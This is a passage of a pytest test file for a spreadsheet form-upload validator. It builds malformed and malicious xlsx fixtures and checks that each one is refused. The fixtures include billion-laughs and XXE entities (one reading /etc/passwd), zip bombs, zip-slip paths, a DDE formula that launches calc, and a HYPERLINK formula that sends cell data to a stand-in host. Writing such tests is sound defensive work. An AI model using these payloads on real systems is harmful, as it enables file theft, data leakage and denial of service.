"""Whatever file arrives as a form: it is refused with a reason, and others are read.

One file of each kind is read as the command reads it, in a process of its own that
tells how much memory it took; the others in this process, by the same code.
"""

import hashlib
import io
import os
import re
import shutil
import signal
import struct
import subprocess
import sys
import time
import zipfile
import zlib
from collections.abc import Callable, Iterable, Iterator
from datetime import date, datetime, timedelta
from pathlib import Path
from types import SimpleNamespace
from typing import NamedTuple

import pytest
from openpyxl import Workbook, load_workbook
from openpyxl.worksheet.formula import ArrayFormula
from rich.console import Console

import watching
from arsverk.form import intake, reading
from arsverk.form.book import Before, Unit
from arsverk.form.cells import Form
from arsverk.form.structure import load_structure
from arsverk.form.writing import FormWriter
from arsverk.wording import catalogue
from conftest import ROOT

NAME = "skjema-2026-4601-bergen.xlsx"
ADULTS = "xl/worksheets/sheet2.xml"
BOOK = "xl/workbook.xml"
STRINGS = "xl/sharedStrings.xml"
TYPES = "[Content_Types].xml"
RELATIONS = "xl/_rels/workbook.xml.rels"
REMARK = "Ny bolig fra høsten"
OLE = bytes.fromhex("D0CF11E0A1B11AE1") + bytes(504)
# What starting a process and ending it may take beside the reading.
BESIDE = 2

Make = Callable[[bytes], bytes]
Parts = dict[str, bytes]


# --- How a good form is spoiled -----------------------------------------------------


def written(folder: Path, year: int = 2026, unit: Unit | None = None) -> bytes:
    """Return an empty form."""
    unit = unit or Unit("4601", "Bergen", True)
    path = folder / "form.xlsx"
    FormWriter(load_structure(year, ROOT), unit, Before(), "nb").write(path)
    return path.read_bytes()


def filled(empty: bytes) -> bytes:
    """Fill in some cells, and keep what programs write: strings that are shared."""

    def fill(parts: Parts) -> None:
        for cell, value in (
            ("B8", b"<v>4</v>"),
            ("C8", b"<v>3.5</v>"),
            ("H8", f"<is><t>{REMARK}</t></is>".encode()),
        ):
            kind = b' t="inlineStr"' if value.startswith(b"<is>") else b""
            parts[ADULTS], n = re.subn(
                rf'(<c r="{cell}" s="[0-9]+")/>'.encode(),
                rb"\1" + kind + b">" + value + b"</c>",
                parts[ADULTS],
            )
            assert n == 1, cell

    return with_parts(fill)(empty)


def packed(parts: Parts) -> bytes:
    """Return a package of parts."""
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as package:
        for name, content in parts.items():
            package.writestr(name, content)
    return file.getvalue()


def with_parts(edit: Callable[[Parts], None]) -> Make:
    """Change the parts of the package."""

    def made(good: bytes) -> bytes:
        with zipfile.ZipFile(io.BytesIO(good)) as package:
            parts = {name: package.read(name) for name in package.namelist()}
        before = dict(parts)
        edit(parts)
        assert parts != before
        return packed(parts)

    return made


def part(name: str, content: bytes = b"x") -> Make:
    """Add a part to the package."""
    return with_parts(lambda parts: parts.update({name: content}))


def swapped(name: str, old: bytes, new: bytes) -> Make:
    """Replace text in a part, once."""

    def edit(parts: Parts) -> None:
        assert old in parts[name], (name, old)
        parts[name] = parts[name].replace(old, new, 1)

    return with_parts(edit)


def value(xml: bytes, kind: bytes = b"") -> Make:
    """Write what stands in B8 as XML."""

    def edit(parts: Parts) -> None:
        parts[ADULTS], n = re.subn(
            rb'(<c r="B8" s="[0-9]+")><v>4</v>',
            lambda found: found[1] + kind + b">" + xml,
            parts[ADULTS],
        )
        assert n == 1

    return with_parts(edit)


def rows(xml: bytes) -> Make:
    """Add XML after the last row of the sheet of adults."""
    return swapped(ADULTS, b"</sheetData>", xml + b"</sheetData>")


def doctype(name: str, declaration: bytes, use: bytes, code: str = "utf-8") -> Make:
    """Put a declaration before a part's root, and use it in the part."""

    def edit(parts: Parts) -> None:
        text = parts[name].split(b"?>", 1)[1]
        at = text.rindex(b"</")
        text = declaration + text[:at] + use + text[at:]
        head = f'<?xml version="1.0" encoding="{code}"?>'
        # With a byte order mark where the encoding has one.
        parts[name] = (head + text.decode()).encode(code)

    return with_parts(edit)


LAUGHS = (
    b'<!DOCTYPE lolz [<!ENTITY a0 "ha">'
    + b"".join(
        b'<!ENTITY a%d "%s">' % (n, b"&a%d;" % (n - 1) * 10) for n in range(1, 12)
    )
    + b"]>"
)
OUTSIDE = b'<!DOCTYPE x [<!ENTITY x SYSTEM "file:///etc/passwd">]>'


def in_book(edit: Callable[[Workbook], None]) -> Make:
    """Change the workbook as a program would."""

    def made(good: bytes) -> bytes:
        book = load_workbook(io.BytesIO(good))
        edit(book)
        file = io.BytesIO()
        book.save(file)
        return file.getvalue()

    return made


def cell(sheet: str, **values: object) -> Make:
    """Write in cells of a sheet."""

    def edit(book: Workbook) -> None:
        for address, content in values.items():
            book[sheet][address] = content

    return in_book(edit)


def name(**references: str | None) -> Make:
    """Let names lead elsewhere, or nowhere."""

    def edit(book: Workbook) -> None:
        for key, reference in references.items():
            if reference is None:
                del book.defined_names[key]
            else:
                book.defined_names[key].attr_text = reference

    return in_book(edit)


def on_book(edit: Callable[[Workbook], object]) -> Make:
    """Change the workbook, whatever the change returns."""
    return in_book(lambda book: edit(book) and None)


def blank() -> bytes:
    """Return another workbook, with nothing in it."""
    file = io.BytesIO()
    Workbook().save(file)
    return file.getvalue()


def copied_sheet(book: Workbook) -> None:
    book.copy_worksheet(book["Voksne"])


def extra_sheet(book: Workbook) -> None:
    book.create_sheet("Notater")["A1"] = "se her"


def named_sheet(book: Workbook) -> None:
    """Add a sheet with a name of its own, as a list for a formula has."""
    from openpyxl.workbook.defined_name import DefinedName

    extra_sheet(book)
    book.defined_names["mine"] = DefinedName("mine", attr_text="Notater!$A$1")


def own_name(book: Workbook) -> None:
    """Name the sums, as for a formula of one's own."""
    from openpyxl.workbook.defined_name import DefinedName

    book.defined_names["summer"] = DefinedName("summer", attr_text="Voksne!$G$8:$G$14")


def help_used(book: Workbook) -> None:
    sheet = book["Hjelpeberegning"]
    sheet["A8"], sheet["C8"], sheet["G3"] = "Miljøterapeut", 2, "=C8*2"


def shared_sums(good: bytes) -> bytes:
    """Write the sums of lines as Excel does: one formula for the cells below it."""

    def edit(parts: Parts) -> None:
        text, shared = parts[ADULTS], b'<f t="shared" si="0"/>'
        first = b'<f t="shared" ref="G8:G14" si="0">SUM(B8:F8)</f>'
        for row in range(8, 15):
            old = b"<f>SUM(B%d:F%d)</f>" % (row, row)
            assert text.count(old) == 1
            text = text.replace(old, first if row == 8 else shared)
        parts[ADULTS] = text

    return with_parts(edit)(good)


def named_row(book: Workbook) -> None:
    """Add a service, and give its row a name."""
    from openpyxl.workbook.defined_name import DefinedName

    book["Voksne"]["A30"], book["Voksne"]["B30"] = "Krisesenter", 5
    book.defined_names["tillegg"] = DefinedName(
        "tillegg", attr_text="Voksne!$A$30:$H$33"
    )


def stretched_name(book: Workbook) -> None:
    """Let a name that is not read cover what somebody wrote."""
    book["Voksne"]["B30"] = 5
    book.defined_names["adults_total"].attr_text = "Voksne!$A$30:$H$30"
    for row in book["Voksne"]["A15:G15"]:
        for one in row:
            one.value = None


def noted(book: Workbook) -> None:
    from openpyxl.comments import Comment

    book["Voksne"]["B8"].comment = Comment("ca, vet ikke sikkert", "N.N.")


def lost_names(book: Workbook) -> None:
    """Let all names of a sheet that is filled in lead to whole columns."""
    for key, defined in book.defined_names.items():
        if key.startswith("adults_"):
            defined.attr_text = "Voksne!$A:$H"


def zeros(size: int) -> bytes:
    """Return the deflated form of many zeros, made of one piece that is repeated."""
    deflate = zlib.compressobj(9, zlib.DEFLATED, -15)
    piece = deflate.compress(bytes(2**20)) + deflate.flush(zlib.Z_FULL_FLUSH)
    return piece * (size // 2**20) + deflate.flush()


class Entry(NamedTuple):
    """An entry of a package, as its bytes say."""

    name: str
    content: bytes
    size: int
    method: int = 8
    crc: int = 0


def raw_package(good: bytes, entries: list[Entry], at: int | None = None) -> bytes:
    """Append entries to a package, which need not be as they say.

    With a place, all of them lie in the same bytes.
    """
    end = good.rindex(b"PK\5\6")
    n_before, size, start = struct.unpack("<HLL", good[end + 10 : end + 20])
    file, directory = good[:start], good[start : start + size]
    for entry in entries:
        common = struct.pack(
            "<HHHHHLLLHH",
            *(20, 0, entry.method, 0, 33, entry.crc),
            *(len(entry.content), entry.size, len(entry.name), 0),
        )
        place = len(file) if at is None else at
        if at is None or at == len(file):
            file += b"PK\3\4" + common + entry.name.encode() + entry.content
        directory += b"PK\1\2" + struct.pack("<H", 20) + common
        directory += struct.pack("<HHHLL", 0, 0, 0, 0, place) + entry.name.encode()
    n = n_before + len(entries)
    return (
        file
        + directory
        + b"PK\5\6"
        + struct.pack("<HHHHLLH", 0, 0, n, n, len(directory), len(file), 0)
    )


def bomb(good: bytes) -> bytes:
    return raw_package(good, [Entry("xl/media/big", zeros(2**30), 2**30)])


def lying_bomb(good: bytes) -> bytes:
    return raw_package(good, [Entry("xl/media/big", zeros(2**30), 1000)])


def overlapping(good: bytes) -> bytes:
    """Return a package of which many entries are the same bytes."""
    place = struct.unpack("<L", good[good.rindex(b"PK\5\6") + 16 :][:4])[0]
    entries = [Entry("xl/media/big", zeros(2**19), 2**19)]
    entries += [entries[0]._replace(name=f"xl/media/bi{n}") for n in range(9)]
    return raw_package(good, entries, place)


def nested(good: bytes) -> bytes:
    """Return a package of packages of packages."""
    inner = raw_package(packed({}), [Entry("0", zeros(2**28), 2**28)])
    for depth in range(3):
        inner = packed({f"{depth}-{n}.zip": inner for n in range(8)})
    return inner


def flagged(good: bytes) -> bytes:
    """Say of every entry that it is encrypted."""
    content = bytearray(good)
    for mark, offset in ((b"PK\3\4", 6), (b"PK\1\2", 8)):
        for found in re.finditer(re.escape(mark), good):
            content[found.start() + offset] |= 1
    return bytes(content)


def bad_crc(good: bytes) -> bytes:
    """Change the checksum of the first entry, in both of its places."""
    with zipfile.ZipFile(io.BytesIO(good)) as package:
        crc = struct.pack("<L", package.infolist()[0].CRC)
    assert good.count(crc) == 2
    return good.replace(crc, b"\0\1\2\3")


def twice(entry: str) -> Make:
    def made(good: bytes) -> bytes:
        with zipfile.ZipFile(io.BytesIO(good)) as package:
            content = package.read(BOOK)
        return raw_package(
            good, [Entry(entry, content, len(content), 0, zlib.crc32(content))]
        )

    return made


def relation(attributes: bytes) -> Make:
    """Add a relation of the workbook."""
    return swapped(
        RELATIONS,
        b"</Relationships>",
        b'<Relationship Id="rId99" ' + attributes + b"/></Relationships>",
    )


KIND = b"http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
LINKED = b'Type="' + KIND + b'externalLinkPath" Target="file:///c:/x.xlsx"'


def content_type(kind: bytes) -> Make:
    """Give the theme another content type."""
    return swapped(TYPES, b"application/vnd.openxmlformats-officedocument.theme+", kind)


def only(**parts: str) -> Make:
    """Return a package with nothing of the form in it."""
    return lambda _: packed({n: c.encode() for n, c in parts.items()})


def opened(**mime: str) -> Make:
    return only(mimetype=mime["of"], **{"content.xml": "<x/>"})


# --- The files ----------------------------------------------------------------------


class Case(NamedTuple):
    """A file that is refused, and what is said about it."""

    make: Make
    codes: str  # with a blank between them
    where: str = ""  # of the first problem
    found: str = ""
    name: str = NAME


def a_cell(code: str, found: str, **values: object) -> Case:
    """Return a case of one cell of the sheet of adults."""
    address = next(iter(values))
    return Case(cell("Voksne", **values), code, f"Voksne!{address}", found)


FILES = {
    # Not a workbook.
    "0 bytes": Case(lambda _: b"", "empty_file"),
    "text renamed": Case(lambda _: "Vi har fire årsverk.\n".encode(), "not_xlsx"),
    "CSV renamed": Case(lambda _: b"tjeneste;a;b\nBolig;4;3,5\n", "not_xlsx"),
    "CSV that begins as a package": Case(lambda _: b"PK;4\n", "damaged"),
    "PDF renamed": Case(lambda _: b"%PDF-1.7\n%\xe2\xe3\n", "not_xlsx"),
    "web page renamed": Case(lambda _: b"<html><table>", "not_xlsx"),
    ".xls renamed": Case(lambda _: OLE + "Workbook".encode("utf-16-le"), "old_excel"),
    "password, as Excel does": Case(
        lambda _: OLE + "EncryptedPackage".encode("utf-16-le"), "password"
    ),
    "password, as zip does": Case(flagged, "password"),
    ".docx renamed": Case(
        only(**{TYPES: "<Types/>", "word/document.xml": "<x/>"}), "not_xlsx"
    ),
    ".ods renamed": Case(
        opened(of="application/vnd.oasis.opendocument.spreadsheet"), "not_xlsx"
    ),
    ".xlsb renamed": Case(
        only(**{TYPES: "<Types/>", "xl/workbook.bin": "x"}), "not_xlsx"
    ),
    "random bytes": Case(
        lambda _: hashlib.shake_256(b"arsverk").digest(40_000), "not_xlsx"
    ),
    "6 MB of nothing": Case(lambda _: b"PK" + bytes(6 * 2**20), "too_large"),
    # A broken or dangerous package.
    "cut off": Case(lambda good: good[: len(good) // 2], "damaged"),
    "without an end": Case(lambda good: good[:-22], "damaged"),
    "bad checksum": Case(bad_crc, "damaged"),
    "spoiled inside": Case(
        lambda good: good[:60] + b"\xff" * 40 + good[100:], "damaged"
    ),
    "unknown compression": Case(
        lambda good: raw_package(good, [Entry("x", b"x", 1, 77)]), "damaged"
    ),
    "bomb of 1 GB": Case(bomb, "too_large", found="1024 > 10 MB"),
    "bomb that lies about its size": Case(lying_bomb, "too_large"),
    "packages in packages": Case(nested, "not_xlsx"),
    "bomb of many entries": Case(
        with_parts(lambda parts: parts.update({f"x{n}": b"" for n in range(9000)})),
        "too_large",
        found="> 200",
    ),
    "entries in the same bytes": Case(overlapping, "damaged"),
    "path upwards": Case(part("xl/../../../../tmp/evil.txt"), "damaged"),
    "path upwards, backwards": Case(part("xl\\..\\..\\evil.txt"), "damaged"),
    "absolute path": Case(part("/tmp/evil.txt"), "damaged"),
    "absolute path of Windows": Case(part("C:\\evil.txt"), "damaged"),
    "entry twice": Case(twice(BOOK), "damaged"),
    "entry twice, in capitals": Case(twice("XL/Workbook.xml"), "damaged"),
    # Entities.
    "laughs in a sheet": Case(
        doctype(ADULTS, LAUGHS, b"<x>&a11;</x>"), "entities", found=ADULTS
    ),
    "laughs in the workbook": Case(
        doctype(BOOK, LAUGHS, b"<x>&a11;</x>"), "entities", found=BOOK
    ),
    "laughs in the strings": Case(
        doctype(STRINGS, LAUGHS, b"<si><t>&a11;</t></si>"), "entities", found=STRINGS
    ),
    "laughs in UTF-16": Case(
        doctype(ADULTS, LAUGHS, b"<x>&a11;</x>", "utf-16"), "entities", found=ADULTS
    ),
    "laughs in UTF-16, big end first": Case(
        doctype(ADULTS, LAUGHS, b"<x>&a11;</x>", "utf-16-be"), "entities"
    ),
    "entity of a file": Case(doctype(ADULTS, OUTSIDE, b"<x>&x;</x>"), "entities"),
    "entity that is a parameter": Case(
        doctype(ADULTS, b'<!DOCTYPE x [<!ENTITY % x SYSTEM "http://x/">%x;]>', b""),
        "entities",
    ),
    "document type only": Case(doctype(BOOK, b"<!DOCTYPE workbook>", b""), "entities"),
    "document type in the relations": Case(
        doctype(RELATIONS, b'<!DOCTYPE x SYSTEM "x.dtd">', b""), "entities"
    ),
    # What leads out of the file, or runs.
    "external link": Case(part("xl/externalLinks/externalLink1.xml"), "external"),
    "external relation": Case(relation(LINKED + b' TargetMode="External"'), "external"),
    "external relation, a > before": Case(
        relation(LINKED.replace(b"c:/", b"c>/") + b' TargetMode="External"'), "external"
    ),
    "external relation, in a character's number": Case(
        relation(LINKED + b' TargetMode="&#69;xternal"'), "external"
    ),
    "external relation that looks like a hyperlink": Case(
        relation(LINKED + b' aType="/hyperlink" TargetMode="External"'), "external"
    ),
    "external relation, in UTF-16": Case(
        with_parts(
            lambda parts: parts.update(
                {
                    "xl/worksheets/_rels/sheet2.xml.rels": (
                        '<?xml version="1.0" encoding="utf-16"?><Relationships><Relat'
                        'ionship Id="a" Type="oleObject" Target="x" '
                        'TargetMode="External"/></Relationships>'
                    ).encode("utf-16")
                }
            )
        ),
        "external",
    ),
    "connections": Case(part("xl/connections.xml"), "external"),
    "query table": Case(part("xl/queryTables/queryTable1.xml"), "external"),
    "macros": Case(part("xl/vbaProject.bin"), "macros", found="xl/vbaProject.bin"),
    "macros, the content type": Case(
        swapped(
            TYPES,
            b"vnd.openxmlformats-officedocument.spreadsheetml.sheet.main",
            b"vnd.ms-excel.sheet.macroEnabled.main",
        ),
        "macros",
    ),
    "macros under another name": Case(
        content_type(b"application/vnd.ms-office.vbaProject+"), "macros"
    ),
    "macro sheet": Case(part("xl/macrosheets/sheet1.xml"), "macros"),
    "dialog sheet": Case(part("xl/dialogsheets/sheet1.xml"), "macros"),
    "ActiveX": Case(part("xl/activeX/activeX1.bin"), "macros"),
    "object inside": Case(part("xl/embeddings/oleObject1.bin"), "embedded"),
    "document inside": Case(part("xl/embeddings/Doc1.docx"), "embedded"),
    # XML that is not as the library expects.
    "sheet that is cut off": Case(swapped(ADULTS, b"</sheetData>", b""), "damaged"),
    # A sheet that is not there is no answer, and this was the only one.
    "sheet that is not there": Case(
        with_parts(lambda parts: parts.pop(ADULTS)), "not_filled_in"
    ),
    "sheet in EBCDIC": Case(doctype(ADULTS, b"<!DOCTYPE x>", b"", "cp037"), "damaged"),
    "not XML": Case(part(BOOK, b"\0\1\2"), "damaged"),
    "no sheets": Case(part(BOOK, b"<workbook/>"), "not_a_form"),
    "number that is none": Case(value(b"<v>NaN</v>"), "damaged"),
    "number of 9,000 digits": Case(value(b"<v>%s</v>" % (b"9" * 9000)), "damaged"),
    "style that is not there": Case(
        swapped(ADULTS, b'<c r="C8" s="', b'<c r="C8" s="9'), "damaged"
    ),
    "names, a thousand": Case(
        swapped(
            BOOK,
            b"</definedNames>",
            b"".join(
                b'<definedName name="n%d">1</definedName>' % n for n in range(1000)
            )
            + b"</definedNames>",
        ),
        "too_large",
        found="> 500",
    ),
}

CELLS = {
    # What is no answer.
    "formula": a_cell("formula", "=2+2", B8="=2+2"),
    "formula that starts a program": a_cell(
        "formula", "=cmd|'/C calc'!A0", B8="=cmd|'/C calc'!A0"
    ),
    "formula with a hyperlink": a_cell(
        "formula", "=HYPERLINK", B8='=HYPERLINK("http://x.no?"&A1,"4")'
    ),
    "formula of another workbook": a_cell(
        "formula", "[1]Ark1", B8="='file:///c:/[1]Ark1'!A1"
    ),
    "formula of the web": a_cell("formula", "WEBSERVICE", C8='=WEBSERVICE("http://x")'),
    "formula of several cells": a_cell(
        "formula", "=", B8=ArrayFormula("B8:B9", "=A1:A2*2")
    ),
    "formula that is shared": Case(
        value(b'<f t="shared" ref="B8:C8" si="0">1+1</f><v>2</v>'),
        "formula",
        "Voksne!B8",
        "=1+1",
    ),
    "formula in a remark": a_cell("formula", "=1+1", H8="=1+1"),
    "formula in a box": a_cell("formula", '=IF(1,"x")', B4='=IF(1,"x")'),
    "formula in a question": Case(
        cell("Spørsmål", B6="=A1"), "formula", "Spørsmål!B6", "=A1"
    ),
    "formula in a box of a question": Case(
        cell("Spørsmål", B16="=A1"), "formula", "Spørsmål!B16", "=A1"
    ),
    "sum that is typed": a_cell("sum_typed", "7.5", G8=7.5),
    "sum that is emptied": a_cell("sum_typed", "–", G8=None),
    "number as a formula in the sum": a_cell("sum_typed", "=12.5", G9="=12.5"),
    "sum of other cells": a_cell("sum_typed", "=SUM(B8:F9)", G8="=SUM(B8:F9)"),
    "error": a_cell("not_a_value", "#N/A", B8="#N/A"),
    "truth": a_cell("not_a_value", "True", B8=True),
    "date": a_cell("date", "2026-05-03", B8=date(2026, 5, 3)),
    "ca 4": a_cell("not_a_number", "ca 4", B8="ca 4"),
    "4 or 5": a_cell("not_a_number", "3;5", B8="3;5"),
    "exponent as text": a_cell("not_a_number", "1e3", B8="1e3"),
    "space in the middle": a_cell("not_a_number", "12 50", B8="12 50"),
    "percent": a_cell("not_a_number", "50 %", C10="50 %"),
    "digits of another script": a_cell("not_a_number", "٤", B8="٤"),
    "formula as text": Case(
        value(b"<is><t>=1+1</t></is>", b' t="inlineStr"'),
        "not_a_number",
        "Voksne!B8",
        "=1+1",
    ),
    "infinite": Case(value(b"<v>1e999</v>"), "not_a_number", "Voksne!B8", "Infinity"),
    "negative": a_cell("negative", "-4", B8=-4),
    "negative with a minus sign": a_cell("negative", "−4", B8="−4"),
    "long text": a_cell("long_text", "aaaa", H8="a" * 30_000),
    "long text for a number": a_cell("long_text", "4444", B8="4" * 3000),
    "text that turns around": a_cell(
        "not_a_number", "4\ufffdtsen", B8="4\u202etsen\u2066"
    ),
    "text that moves the cursor": a_cell(
        "not_a_number", "\ufffd2J 4", B8="\u009b2J\u20284"
    ),
    "text that moves the cursor, as Excel writes it": Case(
        value(b"<is><t>4_x001B_[2J</t></is>", b' t="inlineStr"'),
        "not_a_number",
        "Voksne!B8",
        "[2J",
    ),
    "text that is markup": a_cell("not_a_number", "[red]4[/]", B8="[red]4[/] {where}"),
    "something else than x": a_cell("not_an_x", "ja", B4="ja"),
    "something else than x, for a question": Case(
        cell("Spørsmål", B16="ja"), "not_an_x", "Spørsmål!B16", "ja"
    ),
    "answer that is not in the list": Case(
        cell("Spørsmål", B6="kanskje"), "not_in_list", "Spørsmål!B6", "kanskje"
    ),
    "x and person-years": a_cell("none_and_some", "7.5", B4="x"),
    "remark only": a_cell("remark_only", REMARK, H8=REMARK, B8=None, C8=None),
    "nothing filled in": Case(
        cell("Voksne", B8=None, C8=None, H8=None), "not_filled_in"
    ),
    "two things wrong": Case(
        cell("Voksne", B8="ca 4", H9="=1"), "formula not_a_number", "Voksne!H9", "=1"
    ),
}

CHANGED = {
    # A changed layout.
    "answers merged": Case(
        on_book(lambda b: b["Voksne"].merge_cells("B8:C8")),
        "merged",
        "Voksne!A8",
        "B8:C8",
    ),
    "answers merged over lines": Case(
        on_book(lambda b: b["Voksne"].merge_cells("D8:D9")),
        "merged merged",
        "Voksne!A8",
        "D8:D9",
    ),
    "name deleted": Case(name(adults_01=None), "gone", "Voksne", "adults_01"),
    "name without a place": Case(
        name(adults_01="#REF!"), "gone", "Voksne", "adults_01"
    ),
    "name of a sheet that is gone": Case(
        name(adults_01="Borte!$A$8:$H$8"), "gone", "Voksne", "adults_01"
    ),
    "name that is a formula": Case(
        name(adults_01="OFFSET(Voksne!$A$8,0,0,1,8)"), "gone", "Voksne", "adults_01"
    ),
    "name of another workbook": Case(
        name(adults_01="[1]Voksne!$A$8:$H$8"), "gone", "Voksne", "adults_01"
    ),
    "name of several areas": Case(
        name(adults_01="Voksne!$A$8:$D$8,Voksne!$E$8:$H$8"),
        "gone",
        "Voksne",
        "adults_01",
    ),
    "name with a column more": Case(
        name(adults_01="Voksne!$A$8:$I$8"), "gone", "Voksne!A8:I8", "adults_01"
    ),
    "name of whole columns": Case(
        name(adults_01="Voksne!$A:$H"), "gone", "Voksne!A:H", "adults_01"
    ),
    "name of the whole sheet": Case(
        name(adults_01="Voksne!$A$1:$XFD$1048576"),
        "gone",
        "Voksne!A1:XFD1048576",
        "adults_01",
    ),
    "names of the same cells": Case(
        name(adults_02="Voksne!$A$8:$H$8"),
        "overlap changed_text beside",
        "Voksne!A8",
        "adults_01, adults_02",
    ),
    "all names of a sheet lead to columns": Case(
        in_book(lost_names), "other_sheet", found="Voksne"
    ),
    "service renamed": a_cell("changed_text", "Bolig", A8="Bolig"),
    "services exchanged": Case(
        cell("Voksne", A8="FACT/ACT-team", A11="Bolig med fast bemanning"),
        "changed_text changed_text",
        "Voksne!A8",
        "FACT/ACT-team",
    ),
    "education renamed": a_cell("changed_text", "a: Leger", B7="a: Leger"),
    "question renamed": Case(
        cell("Spørsmål", A6="Hva nå?"), "changed_text", "Spørsmål!A6", "Hva nå?"
    ),
    "sheet more": Case(in_book(extra_sheet), "other_sheet", found="Notater"),
    "sheet more, with a name": Case(
        in_book(named_sheet), "other_sheet", found="Notater"
    ),
    "own service": a_cell("beside beside", "Krisesenter", A22="Krisesenter", B22=3.5),
    "note beside last year": a_cell("beside", "ca 4", J8="ca 4"),
    "number below": a_cell("beside", "7", C25=7),
    "question answered aside": Case(
        cell("Spørsmål", D6="Nei"), "beside", "Spørsmål!D6", "Nei"
    ),
    "number over the sum of all": a_cell("sum_typed", "12.5", G15=12.5),
    "number as a formula over it": a_cell("sum_typed", "=12.5", G15="=12.5"),
    "text where the form warns": a_cell("beside", "se arket", C4="se arket"),
    "number beyond last year": a_cell("beside", "55", K22=55),
    "own service as formulas": a_cell(
        "beside beside", '="Krisesenter"', A22='="Krisesenter"', B22="=3.5"
    ),
    "own service under a name of its own": Case(
        in_book(named_row), "beside beside", "Voksne!A30", "Krisesenter"
    ),
    "a name of the form over more cells": Case(
        in_book(stretched_name), "beside", "Voksne!B30", "5"
    ),
    "heading of the sum": a_cell("beside", "Sum (ca)", G7="Sum (ca)"),
    "last cell of the sheet": Case(
        rows(b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'),
        "beside",
        "Voksne!XFD1048576",
        "1",
    ),
    "note on a cell": Case(in_book(noted), "note", "Voksne!B8", "ca, vet ikke sikkert"),
    "text box": Case(
        part("xl/drawings/drawing1.xml", b"<xdr><a:t>5 til</a:t></xdr>"),
        "text_box",
        found="xl/drawings/drawing1.xml",
    ),
    "own service among the children's": Case(
        cell("Barn og unge", A25="Skoleteam"),
        "beside",
        "Barn og unge!A25",
        "Skoleteam",
    ),
    "boxes exchanged": Case(
        name(adults_none="'Barn og unge'!$B$4", children_youth_none="Voksne!$B$4"),
        "gone gone",
        "Barn og unge!B4",
        "adults_none",
    ),
    "title of another unit on the children's": Case(
        cell("Barn og unge", A2="4602 Kinn, 2026"),
        "other_unit",
        "Barn og unge!A2",
        "4602 Kinn, 2026",
    ),
    "too many cells to look at": Case(
        cell("Veiledning", **{f"C{n}": "x" for n in range(1, 5100)}), "too_large"
    ),
    "strict format": Case(
        swapped(
            BOOK, b"<workbookPr", b'<x xmlns="http://purl.oclc.org/ooxml"/><workbookPr'
        ),
        "strict_format",
    ),
    "file name with spaces": Case(
        lambda good: good,
        "other_file_name",
        found="4602, 2026",
        name="Kopi av skjema_2026_4602.xlsx",
    ),
    "file name that begins with a code": Case(
        lambda good: good,
        "other_file_name",
        found="4602, 2026",
        name="4602 Kinn skjema.xlsx",
    ),
    "sheet copied": Case(in_book(copied_sheet), "other_sheet", found="Voksne Copy"),
    # Whose it is, and of which year.
    "meta deleted": Case(
        in_book(lambda book: book.remove(book["_skjema"])), "not_a_form"
    ),
    "meta emptied": Case(cell("_skjema", A1=None), "not_a_form"),
    "another workbook": Case(lambda _: blank(), "not_a_form"),
    "year no number": Case(cell("_skjema", C1="nå"), "not_a_form"),
    "year of 1,900 digits": Case(cell("_skjema", C1="9" * 1900), "no_form_of_year"),
    "year edited": Case(cell("_skjema", C1="2025"), "old_edition", found="2025"),
    "year to come edited": Case(cell("_skjema", C1="2031"), "no_form_of_year"),
    "unit edited": Case(cell("_skjema", E1="4602"), "old_edition", found="4602"),
    "unit's name edited": Case(cell("_skjema", F1="Oslo"), "old_edition", found="Oslo"),
    "edition edited": Case(cell("_skjema", D1="legacy"), "old_edition", found="legacy"),
    "layout edited": Case(cell("_skjema", B1="2"), "old_edition"),
    "checksum edited": Case(cell("_skjema", I1="0" * 64), "old_edition"),
    "not asked, edited": Case(cell("_skjema", G1="not_asked"), "old_edition"),
    "language edited": Case(cell("_skjema", H1="nn"), "not_a_form", found="nn"),
    "title of another unit": Case(
        cell("Voksne", A2="4602 Kinn, 2026"),
        "other_unit",
        "Voksne!A2",
        "4602 Kinn, 2026",
    ),
    "title of another unit on the questions": Case(
        cell("Spørsmål", A2="4602 Kinn, 2026"),
        "other_unit",
        "Spørsmål!A2",
        "4602 Kinn, 2026",
    ),
    "file name of another unit": Case(
        lambda good: good,
        "other_file_name",
        found="4602, 2026",
        name="skjema-2026-4602-kinn.xlsx",
    ),
    "file name of another year": Case(
        lambda good: good,
        "other_file_name",
        found="4601, 2025",
        name="Form-2025-4601.xlsx",
    ),
}


def forged(unit: str) -> Make:
    """Write a unit's code, and the checksum of a form that was made for it."""
    checksum = load_structure(2026, ROOT).checksum(unit, "Bergen", True)
    return cell("_skjema", E1=unit, I1=checksum)


CHANGED["code that is none"] = Case(forged("4601\n99"), "not_a_form", found="4601 99")

# What takes the reader long or takes much memory, and how much it is.
HEAVY: dict[str, Make] = {
    "2.4 million cells": rows((b"<row>" + b"<c/>" * 1000 + b"</row>") * 2400),
    "as many rows as a sheet has": rows(b"<row/>" * 2**20),
    "200 thousand merged ranges": swapped(
        ADULTS,
        b"</mergeCells>",
        b"".join(b'<mergeCell ref="A%d:B%d"/>' % (n, n) for n in range(100, 200_000))
        + b"</mergeCells>",
    ),
    "200 thousand names": swapped(
        BOOK,
        b"</definedNames>",
        b"".join(
            b'<definedName name="n%d">A!$A$1</definedName>' % n for n in range(200_000)
        )
        + b"</definedNames>",
    ),
    "1.9 million strings": swapped(
        STRINGS, b"</sst>", b"<si/>" * 1_900_000 + b"</sst>"
    ),
    "a million elements in each other": rows(b"<a>" * 10**6 + b"</a>" * 10**6),
    "elements in each other in the styles": swapped(
        "xl/styles.xml",
        b"</styleSheet>",
        b"<extLst>" + b"<ext>" * 10**5 + b"</ext>" * 10**5 + b"</extLst></styleSheet>",
    ),
    "an attribute of 9.5 MB": swapped(
        ADULTS, b"<sheetData>", b'<x a="' + b"a" * 9_500_000 + b'"/><sheetData>'
    ),
    "700 thousand attributes": swapped(
        ADULTS,
        b"<sheetData>",
        b"<x " + b" ".join(b'a%d=""' % n for n in range(700_000)) + b"/><sheetData>",
    ),
}

# What is strange and does no harm: the answers are what they were.
HARMLESS: dict[str, Make] = {
    "as it was": lambda good: good,
    "dimension that is not so": swapped(
        ADULTS, b'ref="A1:H19"', b'ref="A1:XFD1048576"'
    ),
    "dimension of nothing": swapped(ADULTS, b'ref="A1:H19"', b'ref="A1"'),
    "package in a picture": lambda good: part("xl/media/image1.png", nested(good))(
        good
    ),
    "link to click on": relation(
        b'Type="' + KIND + b'hyperlink" Target="https://x.no" TargetMode="External"'
    ),
    "number with an exponent": value(b"<v>4.0E+0</v>"),
    "text that is a number": value(b"<is><t> 4 </t></is>", b' t="inlineStr"'),
